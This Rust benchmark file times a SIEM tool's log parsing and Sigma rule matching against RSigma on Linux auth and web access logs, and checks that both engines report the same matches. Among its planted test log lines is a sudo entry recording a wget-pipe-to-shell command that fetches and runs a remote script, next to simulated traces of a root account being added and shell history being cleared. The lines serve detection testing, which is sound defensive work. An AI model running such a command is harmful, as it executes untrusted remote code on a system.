//! Issue 5, benchmark 2: Linux auth syslog lines with SigmaHQ's `rules/linux/**`, and Apache /
//! nginx combined access lines with its `rules/web/**`, parsing included, next to RSigma
//! (`rsigma-eval` 0.23) on the identical events and rules.
//!
//! `cargo bench -p siem-benches --bench scan_linux_web`
//!
//! Lines (read from the corpora at start):
//!
//! - `auth`: loghub's OpenSSH (2000) and Linux (2000) samples, the sshd / PAM / syslog lines of
//!   the CrowdSec hub tests, and fail2ban's `sshd` and `pam-generic` sample logs;
//! - `web`: the combined-format access lines of the CrowdSec web scenario and parser tests
//!   (SQL injection, XSS, path traversal, sensitive files, brute force probes, ordinary traffic).
//!
//! How each engine gets the events:
//!
//! - siem: the raw line through `Parser::parse` (`--format auto`, the program decoders, the
//!   access-log reader), then the rule set built with the default pipelines (`windows`, `ecs`),
//!   routing on: exactly what `siem scan` does per line. **Parsing is timed.**
//! - RSigma does not parse syslog or access logs. It gets the events siem parsed, converted to
//!   flat JSON objects (one top-level key per ECS field, named as siem names it: `user.name`,
//!   `url.query`, ...; addresses as strings), and `evaluate_with_logsource` with the logsource
//!   siem's parser gave the event. Its rules go through the same `ecs` pipeline file
//!   (`siem-core/pipelines/ecs.yml`, pySigma format, which RSigma reads too), so both engines look
//!   for the same field names. **The conversion is not timed**: RSigma's figure is evaluation
//!   only, siem's is parsing plus evaluation.
//!
//! Before timing, both engines run over every event and their matches, as sets of (rule id,
//! line), are compared; the bench prints both rates (median of several passes, in this thread's
//! CPU time), the ratio, and any difference, and fails if the match sets differ. The criterion
//! groups that follow give the same figures with criterion's statistics.

use std::collections::BTreeSet;
use std::hint::black_box;
use std::path::{Path, PathBuf};

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use rsigma_eval::Engine;
use rsigma_eval::event::JsonEvent;
use rsigma_eval::pipeline::parse_pipeline;
use serde_json::{Map, Value as Json};
use siem_benches::clock::{cpu_iter, thread_cpu_time};
use siem_benches::corpus;
use siem_core::event::{Event, Value};
use siem_core::parse::{FormatSpec, ParseOptions, Parser};
use siem_core::sigma::pipeline::PipelineSet;
use siem_core::sigma::{MatchScratch, RuleSet};

#[path = "../tests/common/rsigma_flat.rs"]
#[allow(dead_code)]
mod rsigma_flat;

const ECS_PIPELINE: &str = include_str!("../../siem-core/pipelines/ecs.yml");

fn read_lines(path: &Path, keep: impl Fn(&str) -> bool) -> Vec<String> {
    std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#') && keep(l))
        .map(str::to_string)
        .collect()
}

fn auth_lines() -> Vec<String> {
    let mut lines = Vec::new();
    let loghub = siem_testkit::corpus("loghub");
    lines.extend(read_lines(&loghub.join("OpenSSH/OpenSSH_2k.log"), |_| true));
    lines.extend(read_lines(&loghub.join("Linux/Linux_2k.log"), |_| true));
    let crowdsec = siem_testkit::corpus("crowdsec-hub").join("tests");
    for test in [
        "sshd-logs",
        "ssh-bf",
        "ssh-slow-bf",
        "ssh-time-based-bf",
        "sshd-invalid-bf",
        "sshd-success-logs",
        "sshd-bad-keyexchange-bf",
        "sshd-refused-conn",
        "sshd_banner_exchange",
        "ssh-timeout",
        "pam-logs",
        "syslog-logs",
    ] {
        let dir = crowdsec.join(test);
        if dir.is_dir() {
            for f in corpus::files(&dir, "log") {
                lines.extend(read_lines(&f, |_| true));
            }
        }
    }
    let fail2ban = siem_testkit::corpus("fail2ban").join("fail2ban/tests/files/logs");
    for name in ["sshd", "pam-generic"] {
        lines.extend(read_lines(&fail2ban.join(name), |_| true));
    }
    // The project's sample log (its syslog lines).
    lines.extend(read_lines(&sample_log(), |l| !is_access(l)));
    // The corpora hold no line SigmaHQ's linux rules fire on (they look for rare events), so a
    // few are planted, one per rule family: shell commands, an sshd crypto error, a
    // privileged account created, a cleared history, a buffer overflow probe.
    lines.extend(PLANTED.iter().map(|l| l.to_string()));
    lines
}

/// Planted auth lines: what the attacks SigmaHQ's `rules/linux/builtin` rules describe write.
const PLANTED: &[&str] = &[
    "May  1 10:00:00 web01 sudo:    alice : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c wget -q -O - http://198.51.100.66/x.sh | sh",
    "May  1 10:00:01 web01 sshd[4242]: fatal: error in libcrypto [preauth]",
    "May  1 10:00:02 web01 useradd[4243]: new user: name=svc, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
    "May  1 10:00:03 web01 bash[4244]: HISTORY: PID=4244 UID=0 export HISTFILESIZE=0",
    "May  1 10:00:04 web01 kernel: [ 1234.5] nginx[2211]: stack smashing detected ***: terminated",
    "May  1 10:00:05 web01 kernel: [ 1234.6] device eth0 entered promiscuous mode",
];

fn sample_log() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/data/sample.log")
}

/// An access-log line (`... [dd/Mon/yyyy:...] "GET ...`).
fn is_access(l: &str) -> bool {
    l.as_bytes().first().is_some_and(u8::is_ascii_digit) && l.contains("] \"")
}

fn web_lines() -> Vec<String> {
    let tests = siem_testkit::corpus("crowdsec-hub").join("tests");
    let mut out = Vec::new();
    for dir in [
        "nginx-http-sqli-probing",
        "nginx-http-xss-probing",
        "nginx-http-path-traversal",
        "nginx-http-generic-bf",
        "nginx-http-sensitive-files",
        "nginx-bad-user-agent",
        "http-admin-interface-probing",
        "http-cve-probing",
        "http-generic-test",
        "apache2-http-sensitive-files",
        "apache2-logs",
        "nginx_http-logs",
    ] {
        let dir = tests.join(dir);
        if !dir.is_dir() {
            continue;
        }
        for f in corpus::files(&dir, "log") {
            // Access lines only (the error lines of these tests also start with a digit).
            out.extend(read_lines(&f, is_access));
        }
    }
    // fail2ban's web samples that are access logs (bots, scanners, shellshock).
    let fail2ban = siem_testkit::corpus("fail2ban").join("fail2ban/tests/files/logs");
    for name in [
        "apache-badbots",
        "apache-botsearch",
        "apache-fakegooglebot",
        "apache-shellshock",
        "apache-noscript",
        "nginx-botsearch",
        "nginx-bad-request",
    ] {
        let path = fail2ban.join(name);
        if path.is_file() {
            out.extend(read_lines(&path, is_access));
        }
    }
    out.extend(read_lines(&sample_log(), is_access));
    out
}

/// An event as the flat JSON object RSigma gets: one key per field.
fn flat_json(event: &Event) -> Json {
    fn value(v: &Value) -> Json {
        match v {
            Value::Null => Json::Null,
            Value::Bool(b) => Json::Bool(*b),
            Value::Int(i) => Json::from(*i),
            Value::Float(f) => serde_json::Number::from_f64(*f)
                .map(Json::Number)
                .unwrap_or(Json::Null),
            Value::Str(s) => Json::String(s.to_string()),
            Value::Ip(ip) => Json::String(ip.to_string()),
            Value::List(items) => Json::Array(items.iter().map(value).collect()),
            Value::Object(_) => v.to_json_value(),
        }
    }
    let mut map = Map::new();
    for (k, v) in event.fields() {
        map.insert(k.to_string(), value(v));
    }
    Json::Object(map)
}

/// Events per second of `pass` (which handles `n` events): the median of 7 passes.
fn rate(n: usize, mut pass: impl FnMut() -> usize) -> f64 {
    let mut rates: Vec<f64> = (0..7)
        .map(|_| {
            let start = thread_cpu_time();
            black_box(pass());
            n as f64 / thread_cpu_time().saturating_sub(start).as_secs_f64()
        })
        .collect();
    rates.sort_by(f64::total_cmp);
    rates[rates.len() / 2]
}

/// One side-by-side case: the rules of `dir` over `lines`.
struct Case {
    name: &'static str,
    lines: Vec<String>,
    parser: Parser,
    rules: RuleSet,
    engine: Engine,
    /// The events as RSigma gets them, with their logsource.
    flat: Vec<(Json, rsigma_parser::LogSource)>,
}

fn case(name: &'static str, dir: &str, lines: Vec<String>) -> Case {
    let texts = corpus::sigmahq_rule_texts_in(&[&format!("rules/{dir}")]);
    let mut builder = RuleSet::builder();
    PipelineSet::defaults().install(&mut builder);
    for (path, text) in &texts {
        builder.add_yaml(text, Some(path));
    }
    let (rules, _errors) = builder.build();

    let mut engine = Engine::new();
    engine.add_pipeline(parse_pipeline(ECS_PIPELINE).expect("RSigma reads the ecs pipeline"));
    let parsed: Vec<_> = texts
        .iter()
        .filter_map(|(_, t)| rsigma_parser::parse_sigma_yaml(t).ok())
        .flat_map(|c| c.rules)
        .collect();
    engine.add_rules(parsed.iter());

    let parser = Parser::new(ParseOptions {
        format: FormatSpec::Auto,
        reference_time: Some("2026-01-01T00:00:00Z".parse().unwrap()),
        ..ParseOptions::default()
    })
    .unwrap();
    let flat = lines
        .iter()
        .map(|l| {
            let event = parser.parse(l.as_bytes()).event;
            let ls = &event.logsource;
            let rls = rsigma_flat::rsigma_logsource(ls, ls.category.as_deref());
            (flat_json(&event), rls)
        })
        .collect();
    println!(
        "{name}: {} lines; siem {} rules, RSigma {} rules (from {} files under rules/{dir})",
        lines.len(),
        rules.len(),
        engine.rule_count(),
        texts.len()
    );
    Case {
        name,
        lines,
        parser,
        rules,
        engine,
        flat,
    }
}

impl Case {
    fn siem_matches(&self) -> BTreeSet<(String, usize)> {
        let mut out = BTreeSet::new();
        for (i, line) in self.lines.iter().enumerate() {
            let event = self.parser.parse(line.as_bytes()).event;
            for id in self.rules.matches(&event) {
                out.insert((self.rules.rule(id).id.to_string(), i));
            }
        }
        out
    }

    fn rsigma_matches(&self) -> BTreeSet<(String, usize)> {
        let mut out = BTreeSet::new();
        for (i, (event, ls)) in self.flat.iter().enumerate() {
            let event = JsonEvent::borrow(event);
            for r in self.engine.evaluate_with_logsource(&event, ls) {
                if let Some(id) = &r.header.rule_id {
                    out.insert((id.clone(), i));
                }
            }
        }
        out
    }

    /// siem: parse + match every line; the number of matches.
    fn siem_pass(
        &self,
        scratch: &mut MatchScratch,
        out: &mut Vec<siem_core::sigma::RuleId>,
    ) -> usize {
        let mut hits = 0;
        for line in &self.lines {
            let event = self.parser.parse(black_box(line.as_bytes())).event;
            self.rules.matches_into(&event, scratch, out);
            hits += out.len();
        }
        hits
    }

    /// RSigma: evaluate every (already converted) event; the number of matches.
    fn rsigma_pass(&self) -> usize {
        let mut hits = 0;
        for (event, ls) in &self.flat {
            let event = JsonEvent::borrow(black_box(event));
            hits += self.engine.evaluate_with_logsource(&event, ls).len();
        }
        hits
    }

    /// Compares the match sets, prints the rates and the ratio; panics on a difference.
    fn compare(&self) {
        let ours = self.siem_matches();
        let theirs = self.rsigma_matches();
        let only_siem: Vec<_> = ours.difference(&theirs).collect();
        let only_rsigma: Vec<_> = theirs.difference(&ours).collect();
        for (id, i) in &only_siem {
            println!(
                "{}: siem only: {id} on line {i}: {}",
                self.name, self.lines[*i]
            );
        }
        for (id, i) in &only_rsigma {
            println!(
                "{}: RSigma only: {id} on line {i}: {}",
                self.name, self.lines[*i]
            );
        }
        let rules: BTreeSet<&String> = ours.iter().map(|(id, _)| id).collect();
        println!(
            "{}: {} matches by siem, {} by RSigma ({} rules fired); {} differences",
            self.name,
            ours.len(),
            theirs.len(),
            rules.len(),
            only_siem.len() + only_rsigma.len()
        );
        let mut scratch = MatchScratch::new();
        let mut out = Vec::new();
        let n = self.lines.len();
        let siem = rate(n, || self.siem_pass(&mut scratch, &mut out));
        let rsigma = rate(n, || self.rsigma_pass());
        // Where siem's time goes: parsing alone, matching alone (events parsed beforehand).
        let parse = rate(n, || {
            self.lines
                .iter()
                .map(|l| self.parser.parse(black_box(l.as_bytes())).event.len())
                .sum()
        });
        let events: Vec<Event> = self
            .lines
            .iter()
            .map(|l| self.parser.parse(l.as_bytes()).event)
            .collect();
        let matching = rate(n, || {
            events
                .iter()
                .map(|e| {
                    self.rules
                        .matches_into(black_box(e), &mut scratch, &mut out);
                    out.len()
                })
                .sum()
        });
        println!(
            "{}: siem parse+match {:.0} events/s, RSigma evaluate (conversion not timed) {:.0} events/s, ratio {:.1}x",
            self.name,
            siem,
            rsigma,
            siem / rsigma
        );
        println!(
            "{}: siem parse only {:.0} lines/s, match only {:.0} events/s; match only vs RSigma {:.1}x",
            self.name,
            parse,
            matching,
            matching / rsigma
        );
        let cmd = "`cargo bench -p siem-benches --bench scan_linux_web`";
        let what = match self.name {
            "auth" => "benchmark 2, auth lines + SigmaHQ rules/linux",
            _ => "benchmark 2, access lines + SigmaHQ rules/web",
        };
        println!("FIGURE|{what}: siem parse+match | {siem:.0} | events/s per core | {cmd} |");
        println!(
            "FIGURE|{what}: RSigma evaluate (flat JSON, conversion untimed) | {rsigma:.0} | events/s per core | {cmd} |"
        );
        println!(
            "FIGURE|{what}: siem / RSigma ({} identical matches) | {:.2} | x | {cmd} |",
            ours.len(),
            siem / rsigma
        );
        println!("FIGURE|{what}: siem parse only | {parse:.0} | lines/s per core | {cmd} |");
        println!("FIGURE|{what}: siem match only | {matching:.0} | events/s per core | {cmd} |");
        assert!(
            only_siem.is_empty() && only_rsigma.is_empty(),
            "{}: the engines disagree (see above)",
            self.name
        );
        assert!(
            !ours.is_empty(),
            "{}: no rule fired, nothing compared",
            self.name
        );
    }
}

fn bench(c: &mut Criterion) {
    let cases = [
        case("auth", "linux", auth_lines()),
        case("web", "web", web_lines()),
    ];
    for case in &cases {
        case.compare();
    }
    let mut group = c.benchmark_group("scan_linux_web");
    group.sample_size(20);
    for case in &cases {
        group.throughput(Throughput::Elements(case.lines.len() as u64));
        group.bench_function(format!("{}/siem/parse+match", case.name), |b| {
            let mut scratch = MatchScratch::new();
            let mut out = Vec::new();
            cpu_iter(b, || {
                black_box(case.siem_pass(&mut scratch, &mut out));
            })
        });
        group.bench_function(format!("{}/rsigma/evaluate", case.name), |b| {
            cpu_iter(b, || {
                black_box(case.rsigma_pass());
            })
        });
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
